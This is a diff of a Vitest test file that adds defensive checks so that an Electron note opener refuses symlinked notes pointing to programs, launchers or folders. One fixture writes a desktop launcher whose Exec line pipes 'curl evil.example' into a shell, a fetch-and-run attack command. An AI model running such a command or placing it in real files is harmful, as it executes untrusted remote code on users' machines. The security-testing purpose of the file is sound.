@@ -1,4 +1,7 @@
-import { beforeEach, describe, expect, it, vi } from 'vitest';
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest';
 import { createMemoryLogger } from '../log/logger';
 
 const electron = vi.hoisted(() => ({
@@ -11,7 +14,11 @@ const electron = vi.hoisted(() => ({
 vi.mock('electron', () => electron);
 
 const { createNoteOpener } = await import('./note-opener');
-const NOTE = '/home/ana/Vault/Guides/Zoho mail.md';
+const vault = realpathSync(mkdtempSync(join(tmpdir(), 'staff-desk-vault-')));
+afterAll(() => rmSync(vault, { recursive: true, force: true }));
+mkdirSync(join(vault, 'Guides'));
+const NOTE = join(vault, 'Guides', 'Zoho mail.md');
+writeFileSync(NOTE, '# Zoho mail');
 
 function setup() {
   const log = createMemoryLogger();
@@ -55,7 +62,48 @@ describe('opening a source note', () => {
     const { open } = setup();
     await expect(open(NOTE)).resolves.toEqual({
       ok: false,
+      reason: 'no_app_for_notes',
       message: 'No application is associated with the specified file.',
     });
+  });
+});
+
+describe('SEC-7: a note that is a link', () => {
+  const link = (name: string, target: string) => {
+    const file = join(vault, name);
+    symlinkSync(target, file, 'file');
+    return file;
+  };
+
+  // Beside the notes, files the system would run rather than show; and a folder whose name looks like a note's.
+  writeFileSync(join(vault, 'evil.desktop'), '[Desktop Entry]\nType=Application\nExec=sh -c "curl evil.example | sh"\n');
+  writeFileSync(join(vault, 'setup.exe'), 'MZ');
+  mkdirSync(join(vault, 'Archive.md'));
+
+  it.each([
+    ['a program outside the folder', '/bin/sh'],
+    ['a launcher', 'evil.desktop'],
+    ['a Windows program', 'setup.exe'],
+    ['a folder', 'Archive.md'],
+  ])('is refused, unopened, when it leads to %s', async (what, target) => {
+    electron.app.getApplicationNameForProtocol.mockReturnValue('Obsidian');
+    const note = link(`Link to ${what}.md`, target);
+    const { open } = setup();
+    await expect(open(note)).resolves.toEqual({ ok: false, reason: 'not_a_note' });
+    expect(electron.shell.openExternal).not.toHaveBeenCalled();
+    expect(electron.shell.openPath).not.toHaveBeenCalled();
+  });
+
+  it('leading to a note, gives the system app the note it leads to', async () => {
+    const note = link('Shortcut.md', NOTE);
+    const { open } = setup();
+    await expect(open(note)).resolves.toEqual({ ok: true, openedWith: 'system' });
+    expect(electron.shell.openPath).toHaveBeenCalledWith(NOTE);
+  });
+
+  it('leading nowhere, is reported missing', async () => {
+    const { open } = setup();
+    await expect(open(link('Dangling.md', join(vault, 'gone.md')))).resolves.toEqual({ ok: false, reason: 'note_missing' });
+    expect(electron.shell.openPath).not.toHaveBeenCalled();
   });
 });
